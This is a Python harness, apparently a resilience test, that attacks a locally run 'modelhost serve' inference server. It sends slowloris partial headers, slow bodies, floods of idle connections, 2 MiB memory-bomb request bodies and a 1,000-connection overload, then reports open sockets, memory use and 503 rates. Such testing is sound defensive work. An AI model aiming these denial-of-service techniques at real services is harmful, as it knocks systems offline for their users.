"""Attacks on a running `modelhost serve`, as a hostile client would make
them, with what the server did about each. Standard library only.

Usage: attack.py HOST:PORT SERVER_PID
Prints one line per attack; run.sh starts the server and calls this.
"""
import asyncio
import json
import os
import socket
import sys
import time

HOST, PORT = sys.argv[1].rsplit(":", 1)
PORT = int(PORT)
PID = int(sys.argv[2])
INFER = "/v2/models/recommender/infer"


def rss_kib(field="VmRSS"):
    with open(f"/proc/{PID}/status") as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    return 0


def still_open(socks):
    """How many of `socks` the server has not closed (non-blocking peek)."""
    n = 0
    for s in socks:
        s.setblocking(False)
        try:
            data = s.recv(65536, socket.MSG_PEEK)
            # Data (an answer) or b"" (closed): a response means the server
            # acted on it; only silence counts as held open.
            if data == b"":
                continue
            n += 0
        except BlockingIOError:
            n += 1
        except OSError:
            continue
    return n


def connect():
    s = socket.create_connection((HOST, PORT), timeout=5)
    return s


def hold(name, make, count, wait):
    socks = []
    for _ in range(count):
        try:
            socks.append(make())
        except OSError:
            break
    opened = len(socks)
    rss_before = rss_kib()
    time.sleep(wait)
    left = still_open(socks)
    for s in socks:
        s.close()
    print(f"{name}: {opened} opened, {left} still open after {wait:.0f} s "
          f"(server RSS {rss_before // 1024} MiB while held)")


def slowloris():
    s = connect()
    s.sendall(b"POST " + INFER.encode() + b" HTTP/1.1\r\nhost: x\r\n")
    return s


def slow_body():
    s = connect()
    s.sendall(b"POST " + INFER.encode() + b" HTTP/1.1\r\nhost: x\r\n"
              b"content-type: application/json\r\ncontent-length: 1000\r\n\r\n{\"inp")
    return s


def bombs():
    """Two 2 MiB bodies of one-character rows at once, five rounds, per
    format: the server's peak RSS before and after."""
    csv = b"basket_value\n" + b"1\n" * ((2 << 20) // 2 - 16)
    records = b'{"dataframe_records":[' + b",".join([b"{}"] * ((2 << 20) // 3 - 16)) + b"]}"
    oip = (b'{"inputs":[{"name":"basket_value","shape":[1000000],"datatype":"FP64","data":['
           + b",".join([b"1"] * ((2 << 20) // 2 - 64)) + b"]}]}")
    for name, path, ctype, body in [
        ("csv", "/invocations", "text/csv", csv),
        ("dataframe_records", "/invocations", "application/json", records),
        ("oip_json", INFER, "application/json", oip),
    ]:
        body = body[: (2 << 20) - 64] if len(body) > (2 << 20) else body
        hwm_before = rss_kib("VmHWM")
        statuses = []
        for _ in range(5):
            socks = []
            for _ in range(2):
                s = connect()
                s.sendall(f"POST {path} HTTP/1.1\r\nhost: x\r\ncontent-type: {ctype}\r\n"
                          f"content-length: {len(body)}\r\nconnection: close\r\n\r\n".encode() + body)
                socks.append(s)
            for s in socks:
                s.settimeout(30)
                head = b""
                try:
                    while b"\r\n" not in head:
                        chunk = s.recv(4096)
                        if not chunk:
                            break
                        head += chunk
                except OSError:
                    pass
                statuses.append(head.split(b" ")[1].decode() if b" " in head else "closed")
                s.close()
        print(f"memory bomb {name} ({len(body) // 1024} KiB, 2 at once x5): statuses "
              f"{sorted(set(statuses))}, peak RSS {hwm_before // 1024} -> {rss_kib('VmHWM') // 1024} MiB, "
              f"RSS now {rss_kib() // 1024} MiB")


async def overload(connections, seconds):
    body = json.dumps({"inputs": [
        {"name": "recency_days", "shape": [1], "datatype": "INT64", "data": [4]},
        {"name": "frequency", "shape": [1], "datatype": "INT64", "data": [3]},
        {"name": "basket_value", "shape": [1], "datatype": "FP64", "data": [42.0]},
        {"name": "product_price", "shape": [1], "datatype": "FP64", "data": [19.5]},
        {"name": "device", "shape": [1], "datatype": "BYTES", "data": ["mobile"]},
        {"name": "is_returning", "shape": [1], "datatype": "BOOL", "data": [True]},
    ]}).encode()
    request = (f"POST {INFER} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
               f"content-length: {len(body)}\r\n\r\n").encode() + body
    statuses = {}
    latencies = []
    deadline = time.monotonic() + seconds

    async def client():
        try:
            reader, writer = await asyncio.open_connection(HOST, PORT)
        except OSError:
            statuses["connect failed"] = statuses.get("connect failed", 0) + 1
            return
        try:
            while time.monotonic() < deadline:
                start = time.monotonic()
                writer.write(request)
                await writer.drain()
                head = await reader.readuntil(b"\r\n\r\n")
                status = head.split(b" ")[1].decode()
                length = 0
                for line in head.split(b"\r\n"):
                    if line.lower().startswith(b"content-length:"):
                        length = int(line.split(b":")[1])
                await reader.readexactly(length)
                statuses[status] = statuses.get(status, 0) + 1
                if status == "200":
                    latencies.append(time.monotonic() - start)
                if b"connection: close" in head.lower():
                    break
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            statuses["reset"] = statuses.get("reset", 0) + 1
        finally:
            writer.close()

    await asyncio.gather(*(client() for _ in range(connections)))
    total = sum(statuses.values())
    latencies.sort()
    p99 = latencies[int(len(latencies) * 0.99)] * 1000 if latencies else float("nan")
    p50 = latencies[len(latencies) // 2] * 1000 if latencies else float("nan")
    shed = statuses.get("503", 0)
    print(f"overload {connections} connections x {seconds} s: {total} answers, "
          f"{shed / max(total, 1):.1%} 503, statuses {dict(sorted(statuses.items()))}, "
          f"accepted p50 {p50:.1f} ms p99 {p99:.1f} ms")


def main():
    print(f"server RSS at start: {rss_kib() // 1024} MiB")
    hold("slowloris (partial headers)", slowloris, 300, 15)
    hold("slow body (10 of 1000 bytes)", slow_body, 200, 35)
    hold("idle connections", connect, 2000, 15)
    bombs()
    asyncio.run(overload(1000, 10))
    print(f"server RSS at end: {rss_kib() // 1024} MiB")


if __name__ == "__main__":
    main()
